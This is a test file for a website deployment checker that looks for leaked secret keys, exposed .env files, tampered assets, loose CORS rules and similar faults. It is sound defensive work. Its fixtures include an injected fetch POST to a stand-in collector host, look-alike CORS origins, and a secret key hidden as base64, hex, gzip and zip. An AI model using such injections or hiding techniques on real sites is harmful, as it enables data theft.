import fs from 'node:fs';
import zlib from 'node:zlib';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { pageFile } from '../../scripts/prerender/prerender-plugin';
import { builtFileOf, DEPLOYED_PAGES } from '../../scripts/check-deployment/pages';
import {
  assetsNotAsBuilt,
  buildFingerprint,
  canonicalProblems,
  corsRequestHeaders,
  developerOrigins,
  entryOf,
  httpsProblem,
  insecureAssetsOf,
  isNetworkOnlyHost,
  keysSentReadably,
  lookAlikeOrigins,
  manifestsOf,
  networkOnlyServicesOf,
  noindexOf,
  pageStatusProblem,
  pageTypeProblem,
  placeholderFactsOf,
  plainHttpServicesOf,
  robotsTxtBlocksAll,
  servesPrivateFile,
  settingsNotBuiltIn,
  secretsIn,
  secretsInFile,
  sourceMapOf,
  textFilesOf,
} from '../../scripts/check-deployment/site';
import type { Reply } from '../../scripts/check-deployment/http';
import { LOCAL_ANON_KEY, LOCAL_PUBLISHABLE_KEY, LOCAL_SECRET_KEY, LOCAL_SERVICE_ROLE_KEY } from '../../local-stack/keys';

/** What check:deployment reads in a deployed page, its headers and the site's files (scripts/check-deployment/site.ts). */
const page = (head: string) => `<!doctype html><html><head>${head}</head><body><h1>Hi</h1></body></html>`;
const reply = (status: number, headers: Reply['headers'] = {}): Reply => ({ status, headers, body: '' });

describe("a page's build", () => {
  it('is fingerprinted by the hashed names it loads from /assets/, not by what a CDN adds', () => {
    const url = new URL('https://floors.example/realtors');
    const built = page('<link rel="stylesheet" href="/assets/index-B2.css"><script data-entry="/assets/index-A1.js"></script><link rel="modulepreload" href="/assets/realtors-C3.js">');
    const served = built.replace('</head>', '<script src="/cdn-cgi/scripts/email-decode.min.js"></script></head>');
    expect(buildFingerprint(served, url)).toEqual(['/assets/index-A1.js', '/assets/index-B2.css', '/assets/realtors-C3.js']);
    expect(buildFingerprint(served, url)).toEqual(buildFingerprint(built, url));
    expect(entryOf(built, url)).toBe('/assets/index-A1.js');
    expect(entryOf(page('<script type="module" crossorigin src="/assets/index-Z9.js"></script>'), url)).toBe('/assets/index-Z9.js');
  });

  it('is read from the file the build wrote for the page', () => {
    for (const path of DEPLOYED_PAGES) expect(builtFileOf(path)).toBe(pageFile(path));
  });
});

describe('search engines', () => {
  it('are kept out by a robots meta tag or an X-Robots-Tag header saying noindex or none, not by other robots words', () => {
    expect(noindexOf(page('<meta name="robots" content="noindex, nofollow">'), {})).toBe('<meta name="robots" content="noindex, nofollow">');
    expect(noindexOf(page('<meta content="none" name="googlebot">'), {})).toBe('<meta name="googlebot" content="none">');
    expect(noindexOf(page(''), { 'x-robots-tag': 'noindex' })).toBe('x-robots-tag: noindex');
    expect(noindexOf(page('<meta name="robots" content="max-image-preview:large">'), { 'x-robots-tag': 'noarchive' })).toBeUndefined();
  });

  it("are kept out of the whole site by a robots.txt that disallows / to every agent, not by one path or one agent's rules", () => {
    expect(robotsTxtBlocksAll('User-agent: *\nDisallow: /\n')).toBe(true);
    expect(robotsTxtBlocksAll('User-agent: Googlebot\nUser-agent: *\nDisallow: /*\n')).toBe(true);
    expect(robotsTxtBlocksAll('User-agent: *\nAllow: /\n\nSitemap: https://floors.example/sitemap.xml\n')).toBe(false);
    expect(robotsTxtBlocksAll('User-agent: *\nDisallow: /admin\n')).toBe(false);
    expect(robotsTxtBlocksAll('User-agent: BadBot\nDisallow: /\n\nUser-agent: *\nDisallow:\n')).toBe(false);
  });
});

describe('https', () => {
  const site = new URL('https://floors.example/');
  const hsts = { 'strict-transport-security': 'max-age=31536000' };

  it('passes an https site with HSTS of a year whose http:// address redirects to it', () => {
    expect(httpsProblem(site, hsts, reply(301, { location: 'https://floors.example/' }))).toBeUndefined();
    expect(httpsProblem(new URL('https://floors.example:8443/'), hsts, undefined)).toBeUndefined();
  });

  it('fails plain http, no or a short HSTS, and an http:// address that serves the page or does not answer', () => {
    expect(httpsProblem(new URL('http://floors.example/'), {}, undefined)).toMatch(/^http:\/\/floors\.example is plain http: /);
    expect(httpsProblem(site, {}, undefined)).toMatch(/^no Strict-Transport-Security header: /);
    expect(httpsProblem(site, { 'strict-transport-security': 'max-age=300' }, undefined)).toMatch(/^its Strict-Transport-Security \(max-age=300\) keeps browsers on https for under a day/);
    expect(httpsProblem(site, hsts, reply(200))).toMatch(/^http:\/\/floors\.example\/ answers 200 instead of redirecting to https/);
    expect(httpsProblem(site, hsts, reply(301, { location: 'http://www.floors.example/' }))).toMatch(/answers 301 to http:\/\/www\.floors\.example\/ instead of redirecting to https/);
    expect(httpsProblem(site, hsts, new Error('connect ECONNREFUSED'))).toMatch(/^http:\/\/floors\.example\/ does not answer \(connect ECONNREFUSED\)/);
  });

  it("fails an http:// address that redirects to another host whose name begins with the site's", () => {
    for (const location of ['https://floors.example.other.test/', 'https://floors.examples/', 'https://floors.example@other.test/']) {
      expect(httpsProblem(site, hsts, reply(301, { location })), location).toMatch(/instead of redirecting to https: /);
    }
    expect(httpsProblem(site, hsts, reply(308, { location: 'https://floors.example/?from=http' }))).toBeUndefined();
  });

  it('finds the scripts and stylesheets an https page loads over http (mixed content), and none on an http page', () => {
    const html = page('<script src="http://cdn.example/analytics.js"></script><link rel="stylesheet" href="http://floors.example/assets/a.css"><script src="/assets/index-A.js"></script><link rel="canonical" href="http://floors.example/">');
    expect(insecureAssetsOf(html, site)).toEqual(['http://cdn.example/analytics.js', 'http://floors.example/assets/a.css']);
    expect(insecureAssetsOf(html, new URL('http://127.0.0.1:4173/'))).toEqual([]);
  });
});

describe('source maps', () => {
  it("are found by the script's sourceMappingURL, on the site only", () => {
    expect(sourceMapOf('x();\n//# sourceMappingURL=index-A1.js.map\n', '/assets/index-A1.js')).toBe('/assets/index-A1.js.map');
    expect(sourceMapOf('x();\n//# sourceMappingURL=data:application/json;base64,e30=\n', '/assets/a.js')).toBeUndefined();
    expect(sourceMapOf('x();\n//# sourceMappingURL=https://maps.example/a.js.map\n', '/assets/a.js')).toBeUndefined();
    expect(sourceMapOf('x();', '/assets/a.js')).toBeUndefined();
  });
});

describe("the business's facts on the pages", () => {
  it("names each placeholder of the build's settings a page shows", () => {
    const footer = page('').replace(
      '<h1>Hi</h1>',
      '<footer>Your Flooring Co · <a href="tel:8565550100">(856) 555-0100</a> · <a href="mailto:hello@example.com">hello@example.com</a> · NJ Home Improvement Contractor Reg. No. 13VH00000000 · <a href="https://www.facebook.com/">Facebook</a></footer>',
    );
    expect(placeholderFactsOf([page(''), footer])).toEqual([
      'VITE_BUSINESS_NAME Your Flooring Co.',
      'VITE_BUSINESS_PHONE (856) 555-0100',
      'VITE_BUSINESS_EMAIL hello@example.com',
      'VITE_BUSINESS_NJ_HIC_REGISTRATION 13VH00000000',
      'VITE_BUSINESS_FACEBOOK_URL https://www.facebook.com/',
    ]);
  });

  it("passes the owner's facts, even where they begin like a placeholder", () => {
    const owners = page('').replace(
      '<h1>Hi</h1>',
      '<footer>Your Flooring Company of Haddonfield · (856) 555-01001 · othello@example.com · 13VH000000001 · <a href="https://www.facebook.com/haddonfloors">Facebook</a> <a href="https://www.instagram.com/haddonfloors">Instagram</a></footer>',
    );
    expect(placeholderFactsOf([owners])).toEqual([]);
  });
});

describe("a browser's CORS request to the processor", () => {
  it('carries its fetch metadata and the page as its Referer, same-site or cross-site by the registrable domain (session 28)', () => {
    expect(corsRequestHeaders('https://www.floors.example', 'https://processor.floors.example/upload', '/floor-visualizer')).toEqual({
      'sec-fetch-mode': 'cors',
      'sec-fetch-dest': 'empty',
      'sec-fetch-site': 'same-site',
      referer: 'https://www.floors.example/floor-visualizer',
    });
    expect(corsRequestHeaders('https://www.floors.example', 'https://floors-processor.onrender.com/')['sec-fetch-site']).toBe('cross-site');
    // A sandboxed frame's origin sends no Referer.
    expect(corsRequestHeaders('null', 'https://processor.floors.example/')).toEqual({ 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', 'sec-fetch-site': 'cross-site' });
  });
});

describe("origins a processor's list copied from a developer's settings names", () => {
  it("are npm start's and npm run preview's local sites and the site over plain http, never the site's own origin (session 28)", () => {
    expect(developerOrigins(new URL('https://www.floors.example'))).toEqual([
      'http://localhost:5173',
      'http://127.0.0.1:5173',
      'http://localhost:4173',
      'http://127.0.0.1:4173',
      'http://www.floors.example',
    ]);
    expect(developerOrigins(new URL('http://127.0.0.1:5173'))).toEqual(['http://localhost:5173', 'http://localhost:4173', 'http://127.0.0.1:4173']);
  });
});

describe("origins a loose CORS rule takes for the site's", () => {
  it("are null, the site's name with another domain after it, and letters before its domain, never a name of the owner's", () => {
    expect(lookAlikeOrigins(new URL('https://www.floors.com/'))).toEqual([
      'null',
      'https://www.floors.com.deployment-check.invalid',
      // A pattern with no start anchor, floors\.com$, takes this domain, which anyone can register.
      'https://deployment-checkfloors.com',
    ]);
    expect(lookAlikeOrigins(new URL('https://floors.example:8443/'))).toEqual(['null', 'https://floors.example.deployment-check.invalid:8443', 'https://deployment-checkfloors.example:8443']);
    // An address has no domain to put letters before.
    expect(lookAlikeOrigins(new URL('http://127.0.0.1:5173/'))).toEqual(['null', 'http://127.0.0.1.deployment-check.invalid:5173']);
  });

  it('put the letters before the domain the public suffix list says can be registered: under a two-label suffix, and under a platform\'s', () => {
    // floors\.co\.uk$ takes deployment-checkfloors.co.uk; the last two labels gave deployment-checkco.uk, which it does not.
    expect(lookAlikeOrigins(new URL('https://www.floors.co.uk/')).at(-1)).toBe('https://deployment-checkfloors.co.uk');
    // On a host's own sub-domain, another customer of the host can take the look-alike.
    expect(lookAlikeOrigins(new URL('https://haddon-floors.netlify.app/')).at(-1)).toBe('https://deployment-checkhaddon-floors.netlify.app');
    expect(lookAlikeOrigins(new URL('https://www.floors.com.au/')).at(-1)).toBe('https://deployment-checkfloors.com.au');
  });
});

describe("a page's status", () => {
  it('names where a redirect goes, and says to check the address a redirect to another host ends on (session 28)', () => {
    const site = new URL('https://floors.example');
    expect(pageStatusProblem(site, reply(404))).toBe('status 404, expected 200');
    expect(pageStatusProblem(site, reply(301, { location: 'https://www.floors.example/realtors' }))).toBe(
      'status 301, a redirect to https://www.floors.example/realtors: if that is the live site (the bare domain sending visitors to www., say), run the check against https://www.floors.example; otherwise the host sends this page\'s visitors to another site',
    );
    expect(pageStatusProblem(site, reply(308, { location: '/realtors/' }))).toMatch(/^status 308, a redirect to \/realtors\/, expected the page itself \(200\)/);
    // A redirect without a location is only a status.
    expect(pageStatusProblem(site, reply(302))).toBe('status 302, expected 200');
  });
});

describe("a page's type", () => {
  it('passes text/html and XHTML, and names what a browser does with a page served as another type or none', () => {
    expect(pageTypeProblem({ 'content-type': 'text/html; charset=utf-8' })).toBeUndefined();
    expect(pageTypeProblem({ 'content-type': 'application/xhtml+xml' })).toBeUndefined();
    expect(pageTypeProblem({ 'content-type': 'text/plain; charset=utf-8' })).toMatch(/^it is served as "text\/plain; charset=utf-8", not text\/html: browsers show the page's HTML source/);
    expect(pageTypeProblem({ 'content-type': 'application/octet-stream' })).toMatch(/browsers download it or show it as text/);
    expect(pageTypeProblem({ 'content-type': 'text/htmlx' })).toMatch(/^it is served as "text\/htmlx"/);
    expect(pageTypeProblem({})).toMatch(/^it is served as no content type/);
  });
});

describe("the build machine's files and the services' addresses", () => {
  const served = (body: string, type: string): Reply => ({ status: 200, headers: { 'content-type': type }, body });

  it("counts a .env or .git file answered as a file as served, and a host's page for an unknown path not", () => {
    expect(servesPrivateFile(served('SUPABASE_SERVICE_ROLE_KEY=sb_secret_x\n', 'application/octet-stream'))).toBe(true);
    expect(servesPrivateFile(served('[core]\n\trepositoryformatversion = 0\n', 'text/plain'))).toBe(true);
    // An unknown path's fallback page, with or without its type; a 404 with a body; an empty file.
    expect(servesPrivateFile(served('<!doctype html><h1>Page not found</h1>', 'text/html; charset=utf-8'))).toBe(false);
    expect(servesPrivateFile(served('<!DOCTYPE html><html><h1>Home</h1>', ''))).toBe(false);
    expect(servesPrivateFile({ status: 404, headers: { 'content-type': 'text/plain' }, body: 'SUPABASE_URL=x' })).toBe(false);
    expect(servesPrivateFile(served('', 'application/octet-stream'))).toBe(false);
  });

  it("counts a .env served as text/html (a host's default type) as served: the body, not the type, tells a file from a page", () => {
    expect(servesPrivateFile(served('SUPABASE_SERVICE_ROLE_KEY=sb_secret_x\n', 'text/html'))).toBe(true);
    expect(servesPrivateFile(served('\n  <html><body>Not found</body></html>', 'text/html'))).toBe(false);
  });

  it("names each service an https site calls over plain http, except this machine's own address, which browsers allow", () => {
    const site = new URL('https://floors.example');
    const services = { SUPABASE_URL: 'https://ref.supabase.co', VITE_VISUALIZER_WEBHOOK_URL: 'http://processor.floors.example:8080/' };

    expect(plainHttpServicesOf(site, services)).toEqual(['VITE_VISUALIZER_WEBHOOK_URL http://processor.floors.example:8080']);
    expect(plainHttpServicesOf(site, { SUPABASE_URL: 'http://203.0.113.5:8000', VITE_VISUALIZER_WEBHOOK_URL: 'http://127.0.0.1:8787/x' })).toEqual(['SUPABASE_URL http://203.0.113.5:8000']);
    // An http site mixes nothing (the https line judges the site itself).
    expect(plainHttpServicesOf(new URL('http://floors.example'), services)).toEqual([]);
  });

  it("names each address the check would send a secret to over plain http on a public address, not a local stack's (session 28)", () => {
    expect(keysSentReadably({ SUPABASE_URL: 'http://abcdefghijklmnopqrst.supabase.co', SUPABASE_MANAGEMENT_API_URL: 'https://api.supabase.com' })).toEqual(['SUPABASE_URL http://abcdefghijklmnopqrst.supabase.co']);
    expect(keysSentReadably({ SUPABASE_URL: 'http://203.0.113.5:8000/' })).toEqual(['SUPABASE_URL http://203.0.113.5:8000']);
    // This machine's, a LAN's or a Docker network's stack: the key does not leave the network.
    expect(keysSentReadably({ SUPABASE_URL: 'http://127.0.0.1:24321', SUPABASE_MANAGEMENT_API_URL: 'http://kong:8000' })).toEqual([]);
    expect(keysSentReadably({ SUPABASE_URL: 'https://abcdefghijklmnopqrst.supabase.co' })).toEqual([]);
  });

  it('names each service a site on a public address calls at an address only this machine or its network reaches', () => {
    const site = new URL('https://www.floors.example');
    // What `npm start` writes to .env.local, which `npm run build` reads too: the check, run beside that stack, reaches it.
    const local = { SUPABASE_URL: 'http://127.0.0.1:24321', VITE_VISUALIZER_WEBHOOK_URL: 'http://127.0.0.1:24321/functions/v1/floor-visualizer' };
    expect(networkOnlyServicesOf(site, local)).toEqual(['SUPABASE_URL http://127.0.0.1:24321', 'VITE_VISUALIZER_WEBHOOK_URL http://127.0.0.1:24321']);
    // A Docker network's service name, a LAN address, a private IPv6 one, loopback written as localhost or mapped.
    expect(
      networkOnlyServicesOf(site, {
        a: 'http://kong:8000',
        b: 'http://192.168.1.20:8000',
        c: 'http://[fd00::2]:8000',
        d: 'http://localhost:54321',
        e: 'http://[::ffff:127.0.0.1]:8000',
        f: 'https://supabase.internal',
        g: 'http://10.0.0.5',
        h: 'http://172.20.0.3',
      }).map((found) => found.split(' ')[0]),
    ).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
    expect(networkOnlyServicesOf(site, { SUPABASE_URL: 'https://ref.supabase.co', VITE_VISUALIZER_WEBHOOK_URL: 'https://203.0.113.5/x' })).toEqual([]);
    // 172.32.x and 192.169.x are public; a site that is itself on this machine (a preview) may call it.
    expect(networkOnlyServicesOf(site, { a: 'http://172.32.0.1', b: 'http://192.169.0.1' })).toEqual([]);
    expect(networkOnlyServicesOf(new URL('https://127.0.0.1:4173'), local)).toEqual([]);
    expect(isNetworkOnlyHost('floors.example')).toBe(false);
    expect(isNetworkOnlyHost('[::1]')).toBe(true);
  });
});

describe("the site's connection settings as built", () => {
  const expected = {
    VITE_SUPABASE_URL: { name: 'SUPABASE_URL', value: 'https://ref.supabase.co' },
    VITE_SUPABASE_ANON_KEY: { name: 'SUPABASE_ANON_KEY', value: 'sb_publishable_abc123' },
    VITE_VISUALIZER_WEBHOOK_URL: { name: 'VITE_VISUALIZER_WEBHOOK_URL', value: 'https://processor.floors.example' },
  };
  // How Vite writes import.meta.env into the bundle (src/lib/env.ts reads it whole).
  const bundle = (url: string, key: string, webhook: string) =>
    `ba=Ui({x:1});var e=ba.safeParse({BASE_URL:\`/\`,DEV:!1,VITE_SUPABASE_ANON_KEY:\`${key}\`,VITE_SUPABASE_URL:\`${url}\`,VITE_VISUALIZER_WEBHOOK_URL:\`${webhook}\`});`;

  it('passes scripts built with the values given, a trailing slash aside', () => {
    expect(settingsNotBuiltIn([bundle('https://ref.supabase.co', 'sb_publishable_abc123', 'https://processor.floors.example/')], expected)).toEqual([]);
    // A build without the env object holds each as a whole string.
    expect(settingsNotBuiltIn(['fetch("https://ref.supabase.co"+p,{k:"sb_publishable_abc123"});u="https://processor.floors.example/"'], expected)).toEqual([]);
  });

  it('names each setting the scripts call another value for, though they contain the one given', () => {
    // Another host that begins with the project's address, a path under the processor's, another key beside it.
    const other = bundle('https://ref.supabase.co.staging.example', 'sb_publishable_abc123', 'https://processor.floors.example/staging');
    expect(settingsNotBuiltIn([other], expected)).toEqual([
      'SUPABASE_URL (they hold https://ref.supabase.co.staging.example)',
      'VITE_VISUALIZER_WEBHOOK_URL (they hold https://processor.floors.example/staging)',
    ]);
    // The values given written somewhere else in the scripts change nothing: the env object is what the site reads.
    expect(settingsNotBuiltIn([other, 'var decoy="https://ref.supabase.co";'], expected)).toHaveLength(2);
    expect(settingsNotBuiltIn(['u="https://ref.supabase.co.staging.example";k="sb_publishable_abc123";w="https://processor.floors.example"'], expected)).toEqual(['SUPABASE_URL (not in them)']);
  });
});

describe("another project's address or public key beside the site's settings", () => {
  const expected = {
    VITE_SUPABASE_URL: { name: 'SUPABASE_URL', value: 'https://abcdefghijklmnopqrst.supabase.co' },
    VITE_SUPABASE_ANON_KEY: { name: 'SUPABASE_ANON_KEY', value: 'sb_publishable_abc123def456' },
    VITE_VISUALIZER_WEBHOOK_URL: { name: 'VITE_VISUALIZER_WEBHOOK_URL', value: 'https://processor.floors.example' },
  };
  const settings = `var e={VITE_SUPABASE_ANON_KEY:"sb_publishable_abc123def456",VITE_SUPABASE_URL:"https://abcdefghijklmnopqrst.supabase.co",VITE_VISUALIZER_WEBHOOK_URL:"https://processor.floors.example"};`;
  const anonJwt = (ref: string) => `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(JSON.stringify({ role: 'anon', ref })).toString('base64url')}.c2lnbmF0dXJl`;

  it('names a second project the scripts call, or a second public key they hold, though the settings object is right (red-team, session 22)', () => {
    expect(settingsNotBuiltIn([settings, 'const c=createClient("https://zyxwvutsrqponmlkjihg.supabase.co","sb_publishable_staging99999")'], expected)).toEqual([
      'SUPABASE_URL (they also call another project, https://zyxwvutsrqponmlkjihg.supabase.co)',
      'SUPABASE_ANON_KEY (they also hold another public key, sb_publishable_staging99…)',
    ]);
    expect(settingsNotBuiltIn([settings, `k="${anonJwt('zyxw')}"`], expected)).toEqual(['SUPABASE_ANON_KEY (they also hold another public key, eyJhbGciOiJIUzI1NiJ9.eyJ…)']);
  });

  it("passes the project's own address and key written again, paths under it, and JWTs of no anon role", () => {
    expect(settingsNotBuiltIn([settings, 'fetch("https://abcdefghijklmnopqrst.supabase.co/rest/v1/contacts");k="sb_publishable_abc123def456";l="https://supabase.com/docs"'], expected)).toEqual([]);
  });
});

describe("the pages' own address", () => {
  const at = (href: string) => `<!doctype html><html><head><link rel="canonical" href="${href}"/></head><body><h1>Hi</h1></body></html>`;
  const site = new URL('https://www.floors.example');

  it('passes pages whose canonical links are on the address checked', () => {
    expect(canonicalProblems(site, new Map([['/', at('https://www.floors.example/')], ['/realtors', at('https://www.floors.example/realtors')]]))).toEqual([]);
    // A local preview (this machine) of a build for this machine's address, another port or scheme.
    expect(canonicalProblems(new URL('https://127.0.0.1:4443'), new Map([['/', at('http://127.0.0.1:4173/')]]))).toEqual([]);
  });

  it("names each page that names another host, plain http on an https site, or no address: a staging copy checked, or a build without VITE_SITE_URL", () => {
    expect(
      canonicalProblems(
        site,
        new Map([
          ['/', at('http://127.0.0.1:5173/')],
          ['/realtors', at('https://staging.floors.example/realtors')],
          ['/investors', at('http://www.floors.example/investors')],
          ['/privacy', '<!doctype html><h1>Privacy Policy</h1>'],
        ]),
      ),
    ).toEqual(['/ names http://127.0.0.1:5173', '/realtors names https://staging.floors.example', '/investors names http://www.floors.example, plain http', '/privacy names no address']);
    // Checked at a host's preview address of the production build.
    expect(canonicalProblems(new URL('https://deploy-preview-12--floors.netlify.app'), new Map([['/', at('https://www.floors.example/')]]))).toEqual(['/ names https://www.floors.example']);
  });

  it('names every text file of the build as a path on the site, and the manifests a page links: the secret key line reads them all', () => {
    const build = fs.mkdtempSync(path.join(os.tmpdir(), 'text-files-'));
    try {
      fs.mkdirSync(path.join(build, 'assets'));
      for (const name of ['robots.txt', 'config.json', 'favicon.svg', 'hero.webp', 'index.html.br', path.join('assets', 'index-a1.js'), path.join('assets', 'index-a1.css'), '.env.staging', 'deploy.yaml']) fs.writeFileSync(path.join(build, name), 'x');
      // The build machine's own files copied in by mistake (a dotfile, a config) are read as well.
      expect(textFilesOf(build).sort()).toEqual(['/.env.staging', '/assets/index-a1.css', '/assets/index-a1.js', '/config.json', '/deploy.yaml', '/favicon.svg', '/robots.txt']);
      expect(textFilesOf(path.join(build, 'missing'))).toEqual([]);
    } finally {
      fs.rmSync(build, { recursive: true, force: true });
    }
    const page = new URL('https://www.floors.example/realtors');
    expect(manifestsOf('<link rel="manifest" href="/site.webmanifest"><link rel="manifest" href="https://cdn.example/m.json"><link rel="icon" href="/favicon.svg">', page)).toEqual(['/site.webmanifest']);
  });
});

describe("the build's files as served (red-team, session 24)", () => {
  it('names a file under /assets/ served with other bytes than the build has under its name, and one the build does not have', () => {
    const buildDir = fs.mkdtempSync(path.join(os.tmpdir(), 'assets-as-built-'));
    try {
      fs.mkdirSync(path.join(buildDir, 'assets'));
      fs.writeFileSync(path.join(buildDir, 'assets', 'index-AbC123.js'), 'import"./form-Xy1.js";console.log(1);\n');
      fs.writeFileSync(path.join(buildDir, 'assets', 'index-Css1.css'), 'body{margin:0}');
      const ok = (body: string): Reply => ({ status: 200, headers: { 'content-type': 'text/javascript' }, body });
      const asBuilt = new Map([
        ['/assets/index-AbC123.js', ok('import"./form-Xy1.js";console.log(1);\n')],
        ['/assets/index-Css1.css', ok('body{margin:0}')],
        // Not the build's folder, and not a file that answered: other lines judge those.
        ['/cdn-cgi/scripts/email-decode.min.js', ok('x')],
        ['/assets/missing-Q1.js', { status: 404, headers: {}, body: 'Not found' }],
      ]);
      expect(assetsNotAsBuilt(asBuilt, buildDir)).toEqual([]);
      const changed = new Map(asBuilt);
      changed.set('/assets/index-AbC123.js', ok('import"./form-Xy1.js";console.log(1);\nfetch("https://collector.example/",{method:"POST"})'));
      changed.set('/assets/form-Xy1.js', ok('export{}'));
      expect(assetsNotAsBuilt(changed, buildDir)).toEqual([
        `/assets/index-AbC123.js (89 bytes served, 38 in ${buildDir}/; from character 38 it serves "fetch("https://collector.example/",{method:"POST"})")`,
        `/assets/form-Xy1.js (which ${buildDir}/ does not have)`,
      ]);
    } finally {
      fs.rmSync(buildDir, { recursive: true, force: true });
    }
  });
});

describe('a piece of the secret key (session 34)', () => {
  const piece = 'a piece of the secret key SUPABASE_SERVICE_ROLE_KEY (12 characters or more of its secret part: a key split across files, or cut)';

  it("names 12 characters of the key's secret part, as a JWT's signature or an sb_secret_ key's random part", () => {
    const signature = LOCAL_SERVICE_ROLE_KEY.split('.')[2]!;
    expect(secretsIn(`part 2: ${signature.slice(20)}`, LOCAL_SERVICE_ROLE_KEY, LOCAL_ANON_KEY)).toEqual([piece]);
    expect(secretsIn(`VITE_KEY_B="${LOCAL_SECRET_KEY.slice(-14)}"`, LOCAL_SECRET_KEY, LOCAL_PUBLISHABLE_KEY)).toEqual([piece]);
  });

  it('does not take what the public key shares with it for a piece: a JWT header and payload, a name both sb_ keys have', () => {
    const [header, payload] = LOCAL_SERVICE_ROLE_KEY.split('.');
    expect(secretsIn(`${LOCAL_ANON_KEY} ${header}.${payload!.slice(0, 30)}`, LOCAL_SERVICE_ROLE_KEY, LOCAL_ANON_KEY)).toEqual([]);
    expect(secretsIn(LOCAL_PUBLISHABLE_KEY, LOCAL_SECRET_KEY, LOCAL_PUBLISHABLE_KEY)).toEqual([]);
    expect(secretsIn(`${LOCAL_SERVICE_ROLE_KEY.split('.')[2]!.slice(0, 11)}`, LOCAL_SERVICE_ROLE_KEY, LOCAL_ANON_KEY)).toEqual([]);
  });
});

describe('the secret key encoded or packed inside a file (session 35)', () => {
  const keys = [
    { key: LOCAL_SERVICE_ROLE_KEY, publicKey: LOCAL_ANON_KEY, jwt: true },
    { key: LOCAL_SECRET_KEY, publicKey: LOCAL_PUBLISHABLE_KEY, jwt: false },
  ];

  it('names the key written as base64 (either alphabet, in lines, whatever precedes it) or hex', () => {
    for (const { key, publicKey } of keys) {
      for (const before of ['', 'k=', 'ke=', 'SUPABASE_SERVICE_ROLE_KEY=']) {
        const written = `${before}${key}\n`;
        for (const text of [
          `# cdn-token: ${Buffer.from(written).toString('base64')}`,
          `const k = atob("${Buffer.from(written).toString('base64url')}")`,
          Buffer.from(written).toString('base64').replace(/(.{64})/g, '$1\n'),
        ])
          expect(secretsIn(text, key, publicKey), `${before} ${text}`).toEqual(['the secret key SUPABASE_SERVICE_ROLE_KEY base64-encoded']);
        expect(secretsIn(Buffer.from(written).toString('hex'), key, publicKey)).toEqual(['the secret key SUPABASE_SERVICE_ROLE_KEY hex-encoded']);
      }
      // The public key encoded is public.
      expect(secretsIn(Buffer.from(publicKey).toString('base64'), key, publicKey)).toEqual([]);
    }
  });

  it("names the key in a gzip member or a zip entry anywhere in a file's bytes, and in base64 of either", () => {
    for (const { key, publicKey, jwt } of keys) {
      const also = (how: string) => (jwt ? [`a JWT key for the role service_role (${how})`] : [`an sb_secret_… key (${how})`]);
      const env = `SUPABASE_SERVICE_ROLE_KEY=${key}\n`;
      const image = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(500, 7), zlib.gzipSync(env), Buffer.alloc(40, 1)]);
      expect(secretsInFile(image, key, publicKey)).toEqual(['the secret key SUPABASE_SERVICE_ROLE_KEY (gzip-compressed)', ...also('gzip-compressed')]);
      // A zip's local entry: its header (30 bytes and the name), then the deflated bytes.
      const name = Buffer.from('.env');
      const header = Buffer.alloc(30);
      header.write('PK\x03\x04', 0, 'latin1');
      header.writeUInt16LE(8, 8);
      header.writeUInt16LE(name.length, 26);
      const zip = Buffer.concat([header, name, zlib.deflateRawSync(env)]);
      expect(secretsInFile(zip, key, publicKey)).toEqual(['the secret key SUPABASE_SERVICE_ROLE_KEY (in a zip)', ...also('in a zip')]);
      expect(secretsInFile(`const blob = "${zlib.gzipSync(env).toString('base64')}";`, key, publicKey)).toEqual([
        'the secret key SUPABASE_SERVICE_ROLE_KEY (gzip-compressed, base64-encoded)',
        ...also('gzip-compressed, base64-encoded'),
      ]);
    }
  });

  it('finds nothing in packed bytes without the key, nor in bytes that only look like a gzip header', () => {
    const lookAlike = Buffer.concat([Buffer.alloc(100, 3), Buffer.from('\x1f\x8b\x08\x00garbage', 'latin1'), Buffer.from('PK\x03\x04'), Buffer.alloc(40, 8)]);
    expect(secretsInFile(lookAlike, LOCAL_SERVICE_ROLE_KEY, LOCAL_ANON_KEY)).toEqual([]);
    expect(secretsInFile(zlib.gzipSync(`VITE_SUPABASE_ANON_KEY=${LOCAL_ANON_KEY}`), LOCAL_SERVICE_ROLE_KEY, LOCAL_ANON_KEY)).toEqual([]);
  });
});
